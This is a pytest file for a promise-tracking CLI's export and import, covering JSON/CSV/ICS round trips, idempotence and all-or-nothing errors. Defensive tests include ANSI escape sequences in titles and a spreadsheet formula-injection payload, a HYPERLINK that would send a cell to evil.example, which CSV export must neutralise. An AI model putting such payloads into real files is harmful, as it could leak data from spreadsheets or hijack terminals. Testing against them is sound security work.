"""export and import: round trips, idempotence, all-or-nothing, and an .ics calendars can read."""

from __future__ import annotations

import json
from datetime import datetime

from tests.cli.conftest import assert_one_line_error


def _fill(cli) -> None:
    cli.add("from @dana: repair invoice by fri 3pm #billing")  # 1: my promise, moved once
    cli.add("to @sam: review contract eod ! #legal")  # 2: what I want of Sam, nobody promised
    cli.add("from @kim: badge form")  # 3: open, no time at all
    cli.add("to @lee: Q3 numbers tomorrow 10am")  # 4: done
    cli.ok("ack", "1", now="2026-11-23T09:20:00+01:00")
    cli.ok("promise", "1", "thu 3pm", now="2026-11-23T09:30:00+01:00")
    cli.ok("promise", "1", "fri noon", "--reason", "parts late", now="2026-11-23T09:40:00+01:00")
    cli.ok("done", "4", now="2026-11-23T11:00:00+01:00")


def _without_ids(requests: list[dict]) -> list[dict]:
    return [{k: v for k, v in r.items() if k != "id"} for r in requests]


def test_json_round_trip_keeps_everything_and_is_idempotent(cli, tmp_path):
    _fill(cli)
    exported = cli.ok("export", "--format", "json", "-o", "out.json")
    assert "Exported 4 requests" in exported.out
    document = json.loads((tmp_path / "out.json").read_text())
    assert document["format"] == "promptly-export" and len(document["requests"]) == 4
    assert document["version"] == 2
    assert [e["kind"] for e in document["requests"][0]["history"]] == [
        "created", "acknowledged", "promised", "renegotiated"]

    other = tmp_path / "other.db"
    first = cli.ok("import", "out.json", "--json", db=other).json
    assert len(first["imported"]) == 4 and first["skipped"] == []
    original = [cli.ok("show", str(i), "--json").json for i in range(1, 5)]
    copied = [cli.ok("show", str(i), "--json", db=other).json for i in first["imported"]]
    assert _without_ids(copied) == _without_ids(original)

    second = cli.ok("import", "out.json", db=other)
    assert "Imported 0 requests" in second.out
    assert "Skipped 4 already in this database" in second.out
    assert "line 6: I owe Dana: repair invoice" in second.out  # the line each request is on
    assert len(cli.ok("list", "--all", "--json", db=other).json) == 4


def test_csv_round_trip_and_reimport_into_the_same_database(cli, tmp_path):
    _fill(cli)
    cli.ok("export", "--format", "csv", "-o", "out.csv")
    header = (tmp_path / "out.csv").read_text().splitlines()[0]
    assert header.startswith("uid,direction,counterpart,")

    again = cli.ok("import", "out.csv", "--json").json
    assert again["imported"] == [] and [s["line"] for s in again["skipped"]] == [2, 3, 4, 5]

    other = tmp_path / "other.db"
    assert len(cli.ok("import", "out.csv", "--json", db=other).json["imported"]) == 4
    fields = ("uid", "direction", "counterpart", "title", "tags", "priority", "status", "asked_at",
              "needed_by", "acknowledged_at", "promised_at", "original_promise", "completed_at",
              "overdue")
    mine = cli.ok("list", "--all", "--json").json
    theirs = cli.ok("list", "--all", "--json", db=other).json
    assert [{k: r[k] for k in fields} for r in theirs] == [{k: r[k] for k in fields} for r in mine]
    # the replayed history keeps the renegotiation, so outcomes can still be told
    kinds = [e["kind"] for e in cli.ok("show", "1", "--json", db=other).json["history"]]
    assert "renegotiated" in kinds and "acknowledged" in kinds


def test_a_hand_written_csv_without_uids_imports_once(cli, tmp_path):
    (tmp_path / "mine.csv").write_text(
        "direction,counterpart,title,asked_at,needed_by,acknowledged_at,promised_at,tags\n"
        "received,Dana,repair invoice,2026-11-23 08:30,2026-11-25 12:00,2026-11-23 08:40,"
        "2026-11-24 12:00,billing\n"
        "made,Sam,review contract,2026-11-22T16:00:00+01:00,,,,\n")
    first = cli.ok("import", "mine.csv", "--json").json
    assert len(first["imported"]) == 2
    dana = cli.ok("show", "1", "--json").json
    assert dana["asked_at"] == "2026-11-23T08:30:00+01:00"  # naive times are local
    assert dana["needed_by"] == "2026-11-25T12:00:00+01:00"
    assert dana["promised_at"] == "2026-11-24T12:00:00+01:00" and dana["tags"] == ["billing"]
    assert dana["status"] == "promised"
    assert cli.ok("import", "mine.csv", "--json").json["imported"] == []


def test_an_export_from_before_needed_by_reads_an_unanswered_promise_as_a_wish(cli, tmp_path):
    (tmp_path / "old.csv").write_text(
        "direction,counterpart,title,asked_at,acknowledged_at,promised_at,status\n"
        "received,Ari,sign-off,2026-11-23T08:00:00+01:00,,2026-11-30T09:00:00+01:00,open\n"
        "received,Bo,budget,2026-11-23T08:00:00+01:00,2026-11-23T08:30:00+01:00,"
        "2026-11-25T09:00:00+01:00,acknowledged\n")
    cli.ok("import", "old.csv")
    ari, bo = (cli.ok("show", str(i), "--json").json for i in (1, 2))
    assert (ari["needed_by"], ari["promised_at"], ari["status"]) == (
        "2026-11-30T09:00:00+01:00", None, "open")
    assert (bo["needed_by"], bo["promised_at"], bo["status"]) == (
        None, "2026-11-25T09:00:00+01:00", "promised")

    document = {"format": "promptly-export", "version": 1, "requests": [{
        "uid": "a1", "direction": "made", "counterpart": "Sam", "title": "quote",
        "status": "open", "asked_at": "2026-11-23T08:00:00+01:00",
        "promised_at": "2026-11-24T12:00:00+01:00", "original_promise": "2026-11-24T12:00:00+01:00",
        "history": [
            {"kind": "created", "at": "2026-11-23T08:00:00+01:00",
             "data": {"asked_at": "2026-11-23T08:00:00+01:00"}},
            {"kind": "promised", "at": "2026-11-23T08:00:00+01:00",
             "data": {"to": "2026-11-24T12:00:00+01:00"}}]}]}
    (tmp_path / "old.json").write_text(json.dumps(document))
    sam = cli.ok("show", str(cli.ok("import", "old.json", "--json").json["imported"][0]), "--json").json
    assert (sam["needed_by"], sam["promised_at"], sam["status"]) == (
        "2026-11-24T12:00:00+01:00", None, "open")
    assert [e["kind"] for e in sam["history"]] == ["created"]


def test_bad_rows_are_named_by_line_and_nothing_is_imported(cli, tmp_path):
    (tmp_path / "bad.csv").write_text(
        "direction,counterpart,title,asked_at,status,completed_at\n"
        "received,Dana,repair invoice,2026-11-23T08:00:00+01:00,,\n"
        "sideways,Sam,review contract,2026-11-23T08:00:00+01:00,,\n"
        "made,Kim,badge form,2026-11-23T08:00:00+01:00,done,\n"
        "made,Lee,Q3 numbers,last tuesday,,\n")
    result = cli("import", "bad.csv")
    assert_one_line_error(result, "line 3:", "sideways", "line 4:", "completed_at", "line 5:",
                          "last tuesday", "Nothing was imported")
    assert "line 2" not in result.err
    assert cli.ok("list", "--all", "--json").json == []

    _fill(cli)
    cli.ok("export", "--format", "json", "-o", "out.json")
    lines = (tmp_path / "out.json").read_text().splitlines()
    broken = json.loads(lines[7].rstrip(","))  # the third request, on line 8
    broken["direction"] = "upwards"
    lines[7] = json.dumps(broken) + ","
    (tmp_path / "broken.json").write_text("\n".join(lines))
    other = tmp_path / "other.db"
    assert_one_line_error(cli("import", "broken.json", db=other), "line 8:", "upwards", "Nothing was imported")
    assert cli.ok("list", "--all", "--json", db=other).json == []

    (tmp_path / "garbage.json").write_text('{"format": "promptly-export", "requests": [\n{"title": }\n]}')
    assert_one_line_error(cli("import", "garbage.json", db=other), "line 2", "not valid JSON")


def test_ics_has_one_event_per_open_promise_or_wish_and_tells_them_apart(cli, tmp_path):
    from icalendar import Calendar

    _fill(cli)
    cli.ok("export", "--format", "ics", "-o", "promises.ics")
    calendar = Calendar.from_ical((tmp_path / "promises.ics").read_bytes())
    events = list(calendar.walk("VEVENT"))
    assert len(events) == 2  # #1 and #2; #3 has no time, #4 is done
    by_summary = {str(e["SUMMARY"]): e for e in events}
    assert set(by_summary) == {"I owe Dana: repair invoice (promised)",
                               "Sam owes me: review contract (wanted by then)"}
    start = by_summary["I owe Dana: repair invoice (promised)"].decoded("DTSTART")
    assert start == datetime.fromisoformat("2026-11-27T12:00:00+01:00")
    uids = {str(e["UID"]) for e in events}
    assert len(uids) == 2

    on_stdout = cli.ok("export", "--format", "ics").out
    assert on_stdout.startswith("BEGIN:VCALENDAR") and on_stdout.count("BEGIN:VEVENT") == 2


def test_control_characters_are_refused_by_import(cli, tmp_path):
    import csv

    with (tmp_path / "odd.csv").open("w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(["direction", "counterpart", "title", "asked_at", "promised_at"])
        writer.writerow(["received", "Zoë", "repair\ninvoice \x1b[2J\x1b[31mnow", "2026-11-23T08:00:00+01:00",
                         "2026-11-23T12:00:00+01:00"])
    assert_one_line_error(cli("import", "odd.csv"), "line 2: title contains a line break",
                          "Nothing was imported")
    assert cli.ok("list", "--all", "--json").json == []


def test_text_an_older_version_stored_is_shown_as_plain_text(cli):
    import sqlite3

    cli.add("from @zoë: placeholder")
    with sqlite3.connect(cli.db) as conn:  # written before import refused control characters
        conn.execute("UPDATE requests SET title = ?", ("repair\ninvoice \x1b[2J\x1b[31mnow",))
    conn.close()
    for command in (["list"], ["show", "1"], ["due"]):
        shown = cli.ok(*command).out
        assert "\x1b" not in shown
    assert "I owe Zoë  repair invoice [2J [31mnow  needs reply" in cli.ok("list").out
    assert cli.ok("show", "1", "--json").json["title"] == "repair\ninvoice \x1b[2J\x1b[31mnow"  # kept as given


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_csv_cells_a_spreadsheet_would_run_are_kept_as_text(cli, tmp_path):
    rows = [{"direction": "received", "counterpart": name, "title": title,
             "asked_at": "2026-11-23T08:00:00+01:00", "details": details}
            for name, title, details in (("@eve", FORMULA, "-2+3"), ("Dana", "+1 for the offsite", ""),
                                         ("Sam", "-5% discount", "@SUM(A1:A9)"))]
    (tmp_path / "in.json").write_text(json.dumps(rows))
    cli.ok("import", "in.json")
    exported = cli.ok("export", "--format", "csv").out
    import csv
    import io

    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULA in cells and "'@eve" in cells and "'-2+3" in cells
    assert "'+1 for the offsite" in cells and "'@SUM(A1:A9)" in cells

    # the way back keeps the guard, readable, and says so rather than undo it silently
    (tmp_path / "out.csv").write_text(exported)
    again = cli.ok("import", "out.csv", db=tmp_path / "other.db")
    assert "Kept as written: a leading ' on lines 2, 3, 4" in again.out
    titles = {r["title"] for r in cli.ok("list", "--json", db=tmp_path / "other.db").json}
    assert titles == {"'" + FORMULA, "'+1 for the offsite", "'-5% discount"}
